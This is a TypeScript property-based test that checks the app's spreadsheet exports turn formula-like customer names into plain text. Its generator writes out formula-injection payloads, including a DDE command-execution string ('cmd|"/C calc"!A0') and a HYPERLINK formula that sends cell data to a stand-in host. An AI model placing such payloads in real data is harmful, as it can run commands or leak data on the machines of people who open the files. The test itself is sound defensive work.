import { read, utils } from '@e965/xlsx';
import fc from 'fast-check';
import { afterAll, beforeAll, expect, test } from 'vitest';

import type { ListQuery } from '../../shared/ipc/schemas/lists.ts';
import { draftCase } from '../support/cancellation-case.ts';
import { casesInput, customersInput, ordersInput } from '../support/list-input.ts';
import { placeOrder } from '../support/placed-order.ts';
import type { TestBackend } from '../support/test-backend.ts';
import { testBackend } from '../support/test-backend.ts';

// A name such as =HYPERLINK("http://…"&A1) must never run on the PC of finance: whatever an
// exported sheet holds is a text, a number or a date.
let backend: TestBackend;
let placed = 0;

beforeAll(async () => {
  backend = await testBackend();
});

afterAll(() => backend.close());

const dangerous = fc
  .tuple(
    fc.constantFrom('=', '+', '-', '@', '\t=', ' =', '＝', '|', '%'),
    fc.constantFrom('1+1', 'cmd|"/C calc"!A0', 'HYPERLINK("http://x"&A1)', 'SUM(1)', 'A1'),
  )
  .map(([start, rest]) => start + rest);

const lists: ListQuery[] = [
  { list: 'orders', query: ordersInput() },
  { list: 'customers', query: customersInput() },
  { list: 'cases', query: casesInput() },
];

test.each(lists)('a name that is a formula is a text in the exported list $list', async (list) => {
  await fc.assert(
    fc.asyncProperty(dangerous, async (name) => {
      placed += 1;
      const phone = `199${String(10_000_000 + placed)}`;
      const order = await placeOrder(backend, { customerName: name, phone, lines: [{ name }] });
      await draftCase(backend, order);
      const answer = await backend.get('lists.export', list, { by: backend.people.finance });
      const book = read(answer.bytes, { cellFormula: true });
      const sheets = Object.values(book.Sheets);
      const cells = sheets.flatMap((sheet) => Object.values(sheet) as { f?: string }[]);
      expect(cells.filter(({ f }) => f !== undefined)).toEqual([]);
      const rows = utils.sheet_to_json<unknown[]>(book.Sheets[book.SheetNames[0] ?? ''] ?? {}, {
        header: 1,
      });
      expect(rows.flat()).toContain(name);
    }),
    { numRuns: 8 },
  );
});
